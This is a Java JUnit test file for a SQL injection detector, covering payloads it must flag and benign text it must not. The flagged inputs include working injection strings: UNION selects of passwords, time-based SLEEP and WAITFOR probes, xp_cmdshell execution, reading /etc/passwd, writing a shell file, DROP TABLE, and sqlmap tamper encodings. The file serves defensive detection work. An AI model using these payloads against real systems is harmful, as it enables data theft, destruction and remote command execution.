package dev.vigil.analyze.sqli;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class SqlInjectionTest {

    @ParameterizedTest
    @ValueSource(strings = {
        "1' or '1'='1",
        "1' or binary 'a'='a",
        "1' and N'a'=N'a",
        "1' or _binary'a'=_binary'a",
        "1' or x'41'='A",
        "1' and q'[it's]'=q'[it's]'--",
        "x' and binary user()=user()#",
        "1 union/**/select 1,2",
        "1' AND SLEEP(5)--",
        "admin'--",
        "admin')#",
        "1;DROP TABLE users",
        "-1 UNION ALL SELECT NULL,table_name FROM information_schema.tables",
        "1) or (1=1",
        "' or ''='",
        "1 AND 1=1",
        "1' and extractvalue(1,concat(0x7e,version()))--",
        "1' and updatexml(1,concat(0x7e,(select user())),1)--",
        "\" or \"a\"=\"a",
        "x' OR 1=1 LIMIT 1 -- ",
        "1 /*!UNION*/ /*!SELECT*/ password FROM users",
        "1'; WAITFOR DELAY '0:0:5'--",
        "1; exec master..xp_cmdshell 'dir'",
        "1 AND (SELECT 1 FROM (SELECT SLEEP(5))a)",
        "1' and pg_sleep(5)--",
        "1 and benchmark(10000000,md5(1))",
        "' UNION SELECT load_file('/etc/passwd')--",
        "1 INTO OUTFILE '/var/www/shell.php'",
        "1 order by 10--",
        "' order by 3#",
        "1 or sleep(5)#",
        "-5 union(select(1),(2))",
        "1 and ascii(substring(version(),1,1))=53",
        "@@version",
        "1' || (select 1)--",
        "10' having 1=1--",
        "1' AnD 2>1 --",
        "1' and '1'='1",
        "1 and exists(select * from users)",
        "'; insert into users values('a','b')--",
        "\"; drop database shop; --",
        "1 OR 'a' LIKE 'a'",
        "username'exec master..xp_cmdshell 'ping 127.0.0.1'--",
        " exec xp_cmdshell 'whoami'",
        // stacked statements that read the catalogue or switch databases (MySQL, T-SQL manuals)
        "'; show databases; --", "1; show grants#", "x'; describe accounts;--", "1; use master;--",
        "1;PRINT @@version--", "'; print db_name();--",
        "mozilla/5.0 (windows nt 10.0; win64; x64) order by 1-- -", "abc) group by 2,3#",
        "' grant connect to scott; grant resource to scott; --", "'; grant dba to app_user--",
        "'; backup database shop to disk='\\\\host\\s\\b.bak'--", "'; load data infile '/etc/hosts' into table t#",
        // words split by comments, for filters that delete comments
        "1 un/**/ion sel/**/ect user,pass fr/**/om accounts", "x' o/**/r 1=1-- ",
        // a backslash against an application that escapes quotes with one
        "\\' or 'a'='a", "\\'; drop table orders; --",
    })
    void detectsInjections(String value) {
        assertThat(SqlInjection.detect(value)).as(value).isPresent();
    }

    @ParameterizedTest
    @ValueSource(strings = {
        // quotes doubled as SQL and CSV escape them (written for this test)
        "x\"\") or (\"\"b\"\"=\"\"b\"", "x'') or (''b''=''b'", "9'' union select name, pass from users--",
    })
    void detectsInjectionsWithDoubledQuotes(String value) {
        assertThat(SqlInjection.detect(value)).as(value).isPresent();
    }

    @ParameterizedTest
    @ValueSource(strings = {
        "O'Reilly",
        "binary search tree or binary heap",
        "O'Reilly or binary 'x'",
        "Jack n'Jill",
        "x'mas party",
        "rock 'n' roll and q'ing",
        "select a size",
        "<b>bold</b>",
        "rock 'n' roll",
        "Tom's \"best\" pizza",
        "drop-down menu",
        "1-2-3",
        "order by price",
        "I love union jobs and select candidates",
        "email@example.com",
        "C++ & C#",
        "it's 5 o'clock",
        "a < b and c > d",
        "<3 you",
        "onion=3",
        "x=1&y=2",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64)",
        "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36",
        "{\"a\":1}",
        "{\"name\":\"O'Brien\",\"tags\":[\"x\",\"y\"],\"n\":-1}",
        "aGVsbG8gd29ybGQ=",
        "dGhpcyBpcyBhIHRlc3Qgb2YgYmFzZTY0IC8rIGVuY29kaW5n",
        "https://example.com/a?b=c",
        "cheap flights from paris to new york",
        "how to select the best union rep",
        "black and white dress size 10",
        "7 AND HALF",
        "Rock and Roll (1950s) -- a history",
        "2024-01-01T10:00:00Z",
        "price >= 10 and price <= 20",
        "don't stop",
        "let's go; it's late",
        "Q&A: what's new?",
        "SELECT your seat",
        "Union Station, Washington",
        "me & you",
        "3/4 inch",
        "en-US,en;q=0.9",
        "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
        "he said \"or else\"",
        "show me the tables", "please describe it; thanks", "use the force; luke", "kill 5; then",
        "print; then", "done; print the receipt", "x; print @home",
        "results (newest first) order by 2", "list (all) order by 1 - asc",
        "done; grant access to bob", "please; grant us time to finish",
        "see /* note */ below", "C:\\Users\\me", "\\'quoted\\'",
        // doubled quotes in ordinary text: CSV fields, empty literals, typography
        "he said \"\"hello\"\" twice", "name=''", "it''s fine", "\"\"", "a '' b", "12'' pipe",
    })
    void ignoresBenignValues(String value) {
        assertThat(SqlInjection.detect(value)).as(value).isEmpty();
    }

    /**
     * A value that starts with the logic operator, meant to follow what the field already held
     * ({@code WHERE id=7} + {@code  or 1=1}), and T-SQL variable declarations that start dynamic
     * SQL; written from the SQL grammar, not from any corpus.
     */
    @ParameterizedTest
    @ValueSource(strings = {
        " or 1=1", " or 'x'='x", " or 'a' like 'a%'", " or 2>1", " or -1=-1", " or a=a", " or a=a--",
        " or true--", " or sleep(5)", " or exists(select 1)", ") or ('a'='a", "|| 1=1", " and 1=2",
        " or name='x'--", "declare @q varchar(200)", "'||user.name", "x'||password||'", " order by 3#", "order by 1,2,3-- ", "x\u2019 or \u20181\u2019=\u20191", "1\u2032) or (\u20321\u2032=\u20321",
        "admin\uff07--", " group by 2;--", "declare @t table", "declare @n int select @n=1",
    })
    void detectsConditionsAppendedToTheValue(String value) {
        assertThat(SqlInjection.detect(value)).as(value).isPresent();
    }

    @ParameterizedTest
    @ValueSource(strings = {
        "or size=large", "or maybe not", "and then 5", "or 5", "and so on=1", "or-9-9wytczt313",
        "and-1", "or 3 - 2", "a'||b", "it's || what's up", "order by 3", "order by name", "it\u2019s a \u201cquote\u201d", "rock\u2019n\u2019roll", "group by 2 weeks", "rock'n'roll || jazz", "please declare @home as your base", "or the other one", "and 1",
    })
    void ignoresProseThatStartsWithALogicWord(String value) {
        assertThat(SqlInjection.detect(value)).as(value).isEmpty();
    }

    @Test
    void readsAPathFromItsLastSegments() {
        assertThat(SqlInjection.detectInPath("/products/7' or 'x'='x")).isPresent();
        assertThat(SqlInjection.detectInPath("/products/7 union select name,2 from users--/x")).isPresent();
        assertThat(SqlInjection.detectInPath("/p/1 or 1=1/*comment*/")).isPresent();
        assertThat(SqlInjection.detectInPath("/docs/my file (1).pdf")).isEmpty();
        assertThat(SqlInjection.detectInPath("/wiki/o'brien")).isEmpty();
        assertThat(SqlInjection.detectInPath("/static/app-1.2.min.css")).isEmpty();
        // a payload five segments back is beyond the segments tried: bounded work per path
        assertThat(SqlInjection.detectInPath("/x/7' or 'x'='x/a b/c d/e f/g h")).isEmpty();
    }

    @Test
    void aPathOfManySegmentsIsReadInLinearTime() {
        String path = "/x y" + "/a".repeat(50_000); // no SQL character after the first segment
        long t = System.nanoTime();
        SqlInjection.detectInPath(path);
        // generous: one pass over 100 KB; the quadratic reading took seconds
        assertThat(java.time.Duration.ofNanos(System.nanoTime() - t)).isLessThan(java.time.Duration.ofMillis(500));
    }

    @Test
    void searchTextThatOnlyLooksLikeSqlIsProse() {
        // a quoted "select all" reads nothing; a call followed by two words continues a sentence
        assertThat(SqlInjection.detect("\"select all\" checkbox css")).isEmpty();
        assertThat(SqlInjection.detect("sleep (5) hours a night")).isEmpty();
        // words, then SELECT ... FROM: no injection context reads a sentence that way
        assertThat(SqlInjection.detect("how to select all from a table in sql")).isEmpty();
        assertThat(SqlInjection.detect("please select one from the list")).isEmpty();
        assertThat(SqlInjection.detect("can i select a seat from the app")).isEmpty();
        // a quantifier and then FROM: no select list, prose ("select all from the menu")
        assertThat(SqlInjection.detect("select all from the menu")).isEmpty();
        assertThat(SqlInjection.detect("select distinct from the list")).isEmpty();
        // ... but what breaks out before it, or a select list of SQL, still reads as a query
        assertThat(SqlInjection.detect("1 select name from users")).isPresent();
        assertThat(SqlInjection.detect("admin' or name select password from users--")).isPresent();
        assertThat(SqlInjection.detect("insert into t select name from users")).isPresent();
        assertThat(SqlInjection.detect("x select @@version")).isPresent();
        assertThat(SqlInjection.detect("abc select count(*) from users")).isPresent();
        assertThat(SqlInjection.detect("1' union select all name from users--")).isPresent();
        assertThat(SqlInjection.detect("0 union select distinct password from users")).isPresent();
        // the same words as injections
        assertThat(SqlInjection.detect("admin' select sleep(5)")).isPresent();
        assertThat(SqlInjection.detect("' select @@version--")).isPresent();
        assertThat(SqlInjection.detect("x' select name from sysobjects--")).isPresent();
        assertThat(SqlInjection.detect("sleep(5)")).isPresent();
        assertThat(SqlInjection.detect("1 and sleep(5) x")).isPresent();
        assertThat(SqlInjection.detect("1' and sleep(5)#")).isPresent();
    }

    @Test
    void reportsTheFingerprintOfTheQuotedContext() {
        assertThat(SqlInjection.detect("1' or '1'='1")).contains("s&sos");
        assertThat(SqlInjection.detect("admin'--")).contains("sc");
    }

    @Test
    void toleratesNullEmptyAndUnterminatedInput() {
        assertThat(SqlInjection.detect(null)).isEmpty();
        assertThat(SqlInjection.detect("")).isEmpty();
        assertThat(SqlInjection.detect("'")).isEmpty();
        assertThat(SqlInjection.detect("/*")).isEmpty();
        assertThat(SqlInjection.detect("@")).isEmpty();
        assertThat(SqlInjection.detect("0x")).isEmpty();
    }

    @Test
    void tokenizerFoldsExecutableCommentsIntoContent() {
        SqlTokenizer t = new SqlTokenizer("1/*!50000union*/select 1");
        t.run((char) 0);
        assertThat(t.fingerprint(6)).isEqualTo("1UE1");
        t = new SqlTokenizer("1 /* x */ or 1");
        t.run((char) 0);
        assertThat(t.fingerprint(6)).isEqualTo("1c&1");
    }

    @Test
    void tokenizerStartsInsideTheGivenQuote() {
        SqlTokenizer t = new SqlTokenizer("x' and sleep(1)-- ");
        t.run('\'');
        assertThat(t.fingerprint(6)).isEqualTo("s&f(1)");
        t.run('"');
        assertThat(t.fingerprint(6)).isEqualTo("s");
    }

    // sqlmap tampers, examples written from the tamper scripts' documented behaviour

    @ParameterizedTest
    @ValueSource(strings = {
        "4\\' OR \\'z\\'=\\'z",           // escapequotes: a layer strips the backslashes
        "user\\'#",
        "%7%' %O%R %'%b%'=%'%b",           // percentage: ASP drops a % before no two hex digits
        "%2 %U%N%I%O%N %S%E%L%E%C%T %n%a%m%e %F%R%O%M %a%c%c%o%u%n%t%s",
        "8%23k%0AOR%23k%0A3%3E2",           // space2hash, read as logged
        "5--w%0AUNION--w%0ASELECT--w%0Apass--w%0AFROM--w%0Aaccounts",
        "6%23%0AAND%23%0ABENCHMARK(9000000%2CMD5(1))",
        "2.e0UNION SELECT login,2 FROM admins",   // scientific: the float ends before the keyword
        ".3OR 4=4",
    })
    void readsThroughSqlmapTampers(String value) {
        assertThat(SqlInjection.detect(value)).as(value).isPresent();
    }

    @ParameterizedTest
    @ValueSource(strings = {
        "it\\'s a \\\"quoted\\\" word",
        "{\\\"name\\\":\\\"alice\\\"}",
        "50% off, 20% more",
        "%Y-%m-%d %H:%M",
        "%A %B %d",
        "%23 Shopping%0Amilk%0Aeggs and bread",
        "--%20signature%0AJane%20Doe",
        "7%23abc",
        "1.5em solid",
        "2.0beta release",
        "0x7eunion",
        "3.5 or 4 stars",
    })
    void tamperReadingsStayQuietOnText(String value) {
        assertThat(SqlInjection.detect(value)).as(value).isEmpty();
    }

    @Test
    void aRefererIsReadValueByValueSoSearchTextAboutSqlIsNoInjection() {
        // the whole address read as one string looked like SQL; its search value alone is prose
        assertThat(SqlInjection.detect("https://www.bing.com/search?q=how to select from two tables in sql")).isPresent();
        assertThat(SqlInjection.detectInReferer("https://www.bing.com/search?q=how to select from two tables in sql")).isEmpty();
        assertThat(SqlInjection.detectInReferer("https://shop.example/search?q=shoes&sort=price desc&page=2")).isEmpty();
        assertThat(SqlInjection.detectInReferer("https://www.google.com/search?q=how+to+select+from+two+tables+in+sql&oq=how+to+select&ie=UTF-8")).isEmpty();
        assertThat(SqlInjection.detectInReferer("https://shop.example/item?id=1'+or+'1'='1")).isPresent();
        // an injection in any value, in the path, or a bare payload is still read
        assertThat(SqlInjection.detectInReferer("https://shop.example/item?cat=3&id=1' or '1'='1")).isPresent();
        assertThat(SqlInjection.detectInReferer("https://shop.example/item?id=-1 union select username,password from users--")).isPresent();
        assertThat(SqlInjection.detectInReferer("https://shop.example/item/1' or '1'='1?x=1")).isPresent();
        assertThat(SqlInjection.detectInReferer("1' and sleep(5)#")).isPresent();
        // an & inside a value (&&) does not split it
        assertThat(SqlInjection.detectInReferer("http://shop.example/p?id=1' && '1'='1")).isPresent();
    }
}
